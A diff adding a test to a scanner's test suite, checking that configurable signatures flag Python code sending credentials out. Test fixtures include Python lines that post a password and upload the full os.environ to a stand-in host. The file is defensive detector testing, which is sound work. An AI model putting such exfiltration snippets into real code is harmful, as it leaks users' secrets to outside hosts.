@@ -127,6 +127,13 @@ describe("an added entry takes effect (kinds beyond files, variables and modules
     expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
   });
 
+  it("sources.credentialConsumers.python: a secret-named parameter handed to a new consuming library is a credential", async () => {
+    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", "credentialConsumers: { python: [zorblat] }\n") })]);
+    const py = 'import requests, zorblat\ndef login(host, password):\n    zorblat.connect(host, password=password)\n    requests.post("https://c.example.invalid/", data=password)\n';
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, sigs)).toEqual(["credential-exfiltration critical 4"]);
+  });
+
   it("sinks.python.modules: a new sending function", async () => {
     const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ python: "python: { modules: { zorblat: { upload: http } }, builtins: {} }" }) })]);
     const py = 'import os, zorblat\nzorblat.upload("https://c.example.invalid/", dict(os.environ))\n';
